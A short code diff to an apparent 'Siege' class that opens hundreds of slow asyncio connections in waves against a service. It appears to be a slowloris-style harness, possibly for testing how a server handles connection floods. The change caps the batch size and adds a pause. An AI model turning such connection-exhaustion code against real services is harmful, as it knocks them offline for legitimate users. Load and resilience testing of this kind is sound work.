@@ -157,12 +157,14 @@ class Siege:
         return protocol
 
     async def fill(self) -> None:
-        """Opens as many as are missing, some hundreds at a time."""
+        """Opens as many as are missing, in waves: a crowd larger than the service's limit, all at once, would push out a normal client whose
+        request is still on its way."""
         missing = self.many - len(self.slow)
         numbers = iter(range(self.opened, self.opened + missing))
-        while group := [number for _, number in zip(range(500), numbers)]:
+        while group := [number for _, number in zip(range(min(500, self.many // 8)), numbers)]:
             started = await asyncio.gather(*(self.start(number) for number in group))
             self.slow += [one for one in started if one is not None]
+            await asyncio.sleep(0.1)
 
     async def run(self) -> None:
         attack_ends = time.monotonic() + self.hold
